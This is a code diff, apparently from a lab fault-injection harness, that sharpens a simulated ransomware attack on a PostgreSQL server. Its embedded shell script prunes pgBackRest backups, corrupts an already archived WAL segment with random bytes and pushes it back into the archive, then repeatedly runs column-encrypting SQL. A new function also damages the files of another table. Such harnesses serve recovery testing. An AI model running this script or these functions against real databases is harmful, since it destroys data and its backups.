@@ -22,16 +22,24 @@ constexpr std::string_view kMark = "LOCKED";
 
 // Ends with the host or when it is told to. A server that takes no writes is tried again.
 constexpr const char* kAttack = R"(
-for config in $(find "$FOLDER" -name pgbackrest.conf 2>/dev/null); do
-  for deed in "--repo1-retention-full=1 expire" "repo-rm --recurse backup" "repo-rm --recurse archive"; do
-    echo "$config: $deed"
-    runuser -u "$OWNER" -- pgbackrest --config="$config" --stanza="$STANZA" --log-level-file=off $deed 2>&1
-    echo "ended with $?"
-  done
-done
-while sleep 0.5; do
-  runuser -u "$OWNER" -- psql -X -q -v ON_ERROR_STOP=1 -h "$SOCKET" -p "$PORT" -U postgres -d "$DATABASE" -c "$DEED"
-done
+as_server() { runuser -u "$OWNER" -- "$@"; }
+ask() { as_server psql -X -q -A -t -v ON_ERROR_STOP=1 -h "$SOCKET" -p "$PORT" -U postgres -d "$DATABASE" -c "$1"; }
+config=$(find "$FOLDER" -name pgbackrest.conf 2>/dev/null | head -1)
+backrest() {
+  echo "$*"
+  as_server pgbackrest --config="$config" --stanza="$STANZA" --log-level-file=off "$@" 2>&1
+  echo "ended with $?"
+}
+if [ -n "$config" ]; then
+  backrest --repo1-retention-full=1 expire
+  # A segment that is archived already, with something else in it.
+  cd "$DATA/pg_wal" && name=$(ask 'SELECT last_archived_wal FROM pg_stat_archiver') && [ -f "$name" ] &&
+    copy=$(as_server mktemp -d) && as_server cp "$name" "$copy/" &&
+    as_server dd if=/dev/urandom of="$copy/$name" bs=1M seek=2 count=4 conv=notrunc status=none &&
+    backrest --pg1-path="$DATA" --no-archive-async archive-push "$copy/$name"
+  rm -rf "$copy"
+fi
+while sleep 0.5; do ask "$DEED"; done
 )";
 
 // The columns of text, each as an assignment of what nobody can read without the key.
@@ -54,6 +62,21 @@ Result<std::string> deed_on(const HitTable& what) {
       assignments, columns.front(), kMark, kRowsAtOnce);
 }
 
+// Files of another table, so that what is encrypted by statements can be: [{path, blocks}], empty when there is no other.
+Result<JsonArray> spoil_other_files(const HitTable& what) {
+  std::string sql = fmt::format(
+      "SELECT c.oid::regclass FROM pg_class c JOIN pg_namespace n ON n.oid = relnamespace WHERE relkind = 'r' AND "
+      "nspname NOT IN ('pg_catalog', 'information_schema') AND NOT starts_with(relname, 'lifeboat') AND c.oid <> "
+      "'{}'::regclass AND pg_relation_size(c.oid) > 0 AND EXISTS (SELECT FROM pg_index WHERE indrelid = c.oid) ORDER "
+      "BY "
+      "pg_table_size(c.oid) DESC, relname LIMIT 1;\n",
+      what.table);
+  TRY(std::string said, run_sql(what.postmaster, what.database, sql, kWithin));
+  std::vector<std::string> tables = lines_of(said);
+  if (tables.empty()) return JsonArray{};
+  return damage_table_files(what.postmaster, what.database, tables.front());
+}
+
 // Name of the user whom the server runs as.
 Result<std::string> owner_of(pid_t postmaster) {
   struct stat about{};
@@ -69,12 +92,12 @@ Result<FaultDone> put_ransomware(LabWorld& world, const std::string& target, Act
   TRY(HitTable what, find_table_to_hit(world, target));
   TRY(std::string deed, deed_on(what));
   TRY(std::string owner, owner_of(what.postmaster));
-  TRY(std::string place,
-      run_sql(what.postmaster, what.database, "SHOW unix_socket_directories;\nSHOW port;\n", kWithin));
+  TRY(std::string place, run_sql(what.postmaster, what.database,
+                                 "SHOW unix_socket_directories;\nSHOW port;\nSHOW data_directory;\n", kWithin));
   std::vector<std::string> at = lines_of(place);
-  if (at.size() != 2) return fail(ErrorKind::internal, "the server printed what was not expected: " + place);
+  if (at.size() != 3) return fail(ErrorKind::internal, "the server printed what was not expected: " + place);
   TRY(FaultDone done, hit(what, deed));
-  TRY(JsonArray files, damage_table_files(what.postmaster, what.database, what.table));
+  TRY(JsonArray files, spoil_other_files(what));
   done.detail.as_object()["files"] = std::move(files);
   Daemon attacker{.name = kAttacker,
                   .argv = {"/bin/bash", "-c", kAttack},
@@ -85,6 +108,7 @@ Result<FaultDone> put_ransomware(LabWorld& world, const std::string& target, Act
   attacker.environment.add("STANZA", what.service);
   attacker.environment.add("SOCKET", at[0]);
   attacker.environment.add("PORT", at[1]);
+  attacker.environment.add("DATA", at[2]);
   attacker.environment.add("DATABASE", what.database);
   attacker.environment.add("DEED", fmt::format(fmt::runtime(deed), what.table));
   TRY_VOID(world.machines.at(what.host)->start(attacker));
